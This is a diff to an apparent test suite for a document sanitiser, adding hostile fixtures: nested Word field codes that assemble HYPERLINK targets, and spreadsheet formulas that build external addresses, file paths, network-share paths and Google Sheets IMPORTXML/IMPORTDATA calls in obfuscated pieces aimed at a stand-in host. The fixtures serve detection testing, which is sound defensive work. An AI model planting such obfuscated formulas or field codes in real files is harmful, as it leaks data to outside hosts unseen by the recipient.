@@ -15,6 +15,7 @@ from tests.hostile.packages import (
     endless_elements,
     field,
     flipped,
+    nested,
     overlapping,
     patched,
     relations,
@@ -180,6 +181,9 @@ ACTIVE_WORD = {
     "link field that another works out": lambda: docx(
         field(" HYPERLINK ").replace("</w:instrText></w:r>", f"</w:instrText></w:r>{field(' QUOTE a ')}", 1)
     ),
+    "link field that another works out behind a place": lambda: docx(nested(r' HYPERLINK \l "a" ', " QUOTE a ", " ")),
+    "link field that another works out beside the place": lambda: docx(nested(" HYPERLINK ", " QUOTE a ", r' \l "a" ')),
+    "link field that another goes on with": lambda: docx(nested(' HYPERLINK "www.', " QUOTE a ", '" ')),
     "text from elsewhere": lambda: docx(field(' INCLUDETEXT "http://vi.du/a" ')),
     "picture from elsewhere by a field": lambda: docx(field(' INCLUDEPICTURE "http://vi.du/a.png" ')),
     "linked object": lambda: docx(field(" LINK Excel.Sheet.8 a.xls ")),
@@ -246,7 +250,17 @@ FORMULAS = {
     "a text without an end": '"a',
     "a name without an end": "'a!A1",
     "a bracket without an end": "[1!A1",
+    "an address put together": 'INDIRECT("\'http://vi.du/"&amp;A1&amp;"\'#$Sheet1.A1")',
+    "an address put together in pieces": 'SUM(1,INDIRECT(CONCATENATE("\'htt","p:/","/vi.du/")&amp;A1))',
+    "a file put together": 'INDIRECT ("\'FILE:"&amp;A1)',
+    "another machine put together": "INDIRECT(\"'\\\\may-la\\a'!A1\")",
+    "a file put together, as LibreOffice writes it": "INDIRECT(\"'C:\\a.ods'#$Sheet1.A1\")",
+    "another workbook put together": 'INDIRECT("\'["&amp;A1&amp;"]Một\'!A1")',
     "a formula of Google Sheets": '__xludf.DUMMYFUNCTION("IMPORTXML(""http://vi.du/"",""//a"")")',
+    "a formula of Google Sheets behind a cell": '__xludf.DUMMYFUNCTION(A1&amp;"IMPORTXML(""http://vi.du/"")")',
+    "a formula of Google Sheets in pieces": '__xludf.DUMMYFUNCTION("IMPORT"&amp;"DATA(A1)")',
+    "a formula of Google Sheets, put together": '__xludf.DUMMYFUNCTION(CONCATENATE("IMPORT","DATA(A1)"))',
+    "a formula of Google Sheets that goes on": '__xludf.DUMMYFUNCTION("SUM(A1)"&amp;A1)',
 }
 
 
